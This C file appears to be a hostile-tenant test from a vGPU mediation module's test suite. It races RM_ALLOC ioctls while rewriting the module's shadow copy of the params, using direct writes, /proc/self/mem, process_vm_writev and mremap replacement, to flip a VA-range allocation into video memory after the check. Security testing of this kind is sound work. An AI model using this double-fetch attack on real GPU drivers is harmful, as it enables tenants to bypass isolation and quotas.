// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile tenant rewriting its params in the module's shadow after the
 * check and before the driver reads them (tests/vm/hostile, issue 10 item 7).
 *
 *   attack_preread FD CLIENT PARENT SIZE MIN_S MAX_S ATTEMPTS [unmap]
 *
 * One thread allocates with RM_ALLOC (NVOS21) under fresh handles of class
 * NV50_MEMORY_VIRTUAL (0x50A0: a VA range, which the quota does not charge),
 * with allocation params that ask SIZE bytes, and keeps whatever it gets.
 * Another thread finds the shadow (a page of its own mappings that begins
 * with its params, as the module copied them there) and writes
 * NV01_MEMORY_LOCAL_USER (0x40) over hClass there, over and over, so that
 * the driver reads video memory where the daemon decided on a VA range. It
 * also tries the other ways in: pwrite to /proc/self/mem and
 * process_vm_writev. With "unmap" it replaces the shadow instead: a copy
 * of the whole region with 0x40 in hClass, moved over it (mremap
 * MREMAP_FIXED), so that a driver reading it in that call reads the copy.
 * It runs for at least MIN_S seconds and ATTEMPTS calls, and with "unmap"
 * until a call has failed with EIO (the file revoked), at most MAX_S s;
 * then it prints "attempts N ok N failed N found N writes N faults N
 * replaced N eio N" (eio: calls that failed with EIO, a revoked file).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <errno.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

#define VIRTUAL_CLASS		0x50A0
#define VIDEO_CLASS		0x40

static atomic_int stop;
static atomic_int called;
static uint32_t client, parent;
static atomic_ulong writes, faults, replaced;
static int unmap_mode;
static struct shadows sh;
static int mem_fd = -1;

/* The params as the module copied them: either class, not yet flipped. */
static int is_params(volatile uint32_t *p)
{
	return p[0] == client && p[1] == parent &&
	       (p[3] == VIRTUAL_CLASS || p[3] == VIDEO_CLASS);
}

/* A copy of ours lies where a replaced one was: the module's mapping only. */
static void find_regions(void)
{
	find_shadows(&sh, is_params, unmap_mode ? "vgpu-shadow" : NULL);
}

/* Moves a copy of region @i, hClass 0x40, over it. */
static void replace(int i)
{
	unsigned long lo = sh.lo[i], len = sh.hi[i] - lo;
	char *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
			  -1, 0);

	if (copy == MAP_FAILED)
		return;
	memcpy(copy, (void *)lo, len);
	((uint32_t *)(copy + ((unsigned long)sh.page[i] - lo)))[3] = VIDEO_CLASS;
	if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)lo) == MAP_FAILED)
		munmap(copy, len);
	else
		atomic_fetch_add(&replaced, 1);
	atomic_store(&sh.n, 0);	/* the module maps a new one */
}

static void *rewriter(void *arg)
{
	uint32_t video = VIDEO_CLASS;
	static unsigned long turn;

	(void)arg;
	if (sigsetjmp(lost, 1)) {
		atomic_fetch_add(&faults, 1);
		atomic_store(&sh.n, 0);
	}
	armed = 1;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		int i, n = atomic_load_explicit(&sh.n, memory_order_relaxed);

		if (!atomic_load_explicit(&called, memory_order_relaxed))
			continue;
		if (!(++turn & 0xfffff) || !n)
			find_regions();
		if (unmap_mode) {
			if (n)
				replace(0);
			continue;
		}
		for (i = 0; i < n; i++) {
			volatile uint32_t *p = (volatile uint32_t *)sh.page[i];
			struct iovec l = { &video, 4 }, r = { (void *)&p[3], 4 };

			switch (turn % 64) {
			case 0:	/* through the kernel, as a debugger writes */
				if (mem_fd >= 0 &&
				    pwrite(mem_fd, &video, 4, (off_t)(uintptr_t)&p[3]) == 4)
					atomic_fetch_add(&writes, 1);
				break;
			case 1:
				if (process_vm_writev(getpid(), &l, 1, &r, 1, 0) == 4)
					atomic_fetch_add(&writes, 1);
				break;
			default:
				if (p[3] == VIRTUAL_CLASS) {
					p[3] = VIDEO_CLASS;
					atomic_fetch_add_explicit(&writes, 1,
								  memory_order_relaxed);
				}
			}
		}
	}
	armed = 0;
	return NULL;
}

int main(int argc, char **argv)
{
	unsigned char mem[128] __attribute__((aligned(8)));
	unsigned long attempts = 0, ok = 0, failed = 0, eio = 0, want;
	double start, min_s, max_s;
	struct nvos21 a;
	uint64_t size;
	pthread_t t;
	int fd, rc;

	if (argc < 8)
		return 2;
	fd = atoi(argv[1]);
	client = strtoul(argv[2], NULL, 0);
	parent = strtoul(argv[3], NULL, 0);
	size = strtoull(argv[4], NULL, 0);
	min_s = atof(argv[5]);
	max_s = atof(argv[6]);
	want = strtoul(argv[7], NULL, 0);
	unmap_mode = argc > 8 && !strcmp(argv[8], "unmap");
	mem_fd = open("/proc/self/mem", O_RDWR);

	catch_faults();
	if (pthread_create(&t, NULL, rewriter, NULL))
		return 1;
	start = now();
	for (;;) {
		double el = now() - start;

		if (el >= max_s ||
		    (el >= min_s && attempts >= want && (!unmap_mode || eio)))
			break;
		memset(mem, 0, sizeof(mem));
		*(uint64_t *)(mem + 64) = size;	/* NV_MEMORY_ALLOCATION_PARAMS.size */
		memset(&a, 0, sizeof(a));
		a.h_root = client;
		a.h_parent = parent;
		a.h_new = 0xB0000000u + attempts;
		a.h_class = VIRTUAL_CLASS;
		a.p_alloc_parms = (uintptr_t)mem;
		a.params_size = sizeof(mem);
		a.status = 0xffffffffu;
		rc = ioctl(fd, _IOWR(NV_IOCTL_MAGIC, NV_ESC_RM_ALLOC, struct nvos21), &a);
		attempts++;
		atomic_store(&called, 1);
		if (rc && errno == EIO)
			eio++;
		if (rc || a.status)
			failed++;
		else
			ok++;
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("attempts %lu ok %lu failed %lu found %lu writes %lu faults %lu replaced %lu "
	       "eio %lu\n", attempts, ok, failed, (unsigned long)atomic_load(&sh.found),
	       (unsigned long)atomic_load(&writes), (unsigned long)atomic_load(&faults),
	       (unsigned long)atomic_load(&replaced), eio);
	return 0;
}
